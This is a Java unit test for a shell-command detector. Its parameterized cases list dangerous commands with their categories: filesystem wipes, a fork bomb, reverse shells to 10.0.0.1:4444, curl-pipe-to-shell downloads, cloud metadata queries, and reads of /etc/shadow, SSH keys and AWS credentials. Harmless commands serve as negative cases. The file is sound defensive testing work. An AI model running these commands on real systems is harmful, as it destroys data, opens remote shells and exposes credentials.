package dev.arbiter.core;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellCommandDetectorTest {
    @ParameterizedTest
    @CsvSource(
            delimiterString = " => ",
            quoteCharacter = '`',
            value = {
                "rm -rf / => destructive_fs",
                "sudo rm -rf --no-preserve-root / => destructive_fs",
                "rm -fr ~ => destructive_fs",
                "rm -r -f /etc => destructive_fs",
                "rm --recursive --force /* => destructive_fs",
                "mkfs.ext4 /dev/sda1 => destructive_fs",
                "dd if=/dev/zero of=/dev/sda bs=1M => destructive_fs",
                "chmod -R 777 / => destructive_fs",
                ":(){ :|:& };: => fork_bomb",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 => reverse_shell",
                "nc -e /bin/sh 10.0.0.1 4444 => reverse_shell",
                "ncat 10.0.0.1 4444 -e /bin/bash => reverse_shell",
                "socat tcp:10.0.0.1:4444 exec:/bin/sh => reverse_shell",
                "curl -s https://x.io/i.sh | bash => shell_download",
                "wget -qO- http://x.io/i | sudo sh => shell_download",
                "curl http://169.254.169.254/latest/meta-data/ => cloud_metadata",
                "GET http://metadata.google.internal/computeMetadata/v1/ => cloud_metadata",
                "cat ../../secrets.txt => path_traversal",
                "GET /download?file=%2e%2e%2f%2e%2e%2fetc => path_traversal",
                "cat /etc/passwd => path_traversal",
                "cat /etc/shadow => credential_access",
                "cat ~/.ssh/id_rsa => credential_access",
                "cat ~/.aws/credentials => credential_access"
            })
    void finds_dangerousCommands(String command, String detail) {
        assertThat(Scans.details(FindingType.DANGEROUS_COMMAND, "run: " + command))
                .contains(detail);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf ./build",
                "rm -rf /tmp/build-cache",
                "rm file.txt",
                "rm -f /",
                "curl https://api.example.com/data -o data.json",
                "chmod 755 /usr/local/bin/tool",
                "see ../README.md",
                "dd if=in.img of=out.img",
                "nc -zv example.com 80",
                "the add button is on the left"
            })
    void ignores_harmlessCommands(String command) {
        assertThat(Scans.findings(FindingType.DANGEROUS_COMMAND, command)).isEmpty();
    }
}
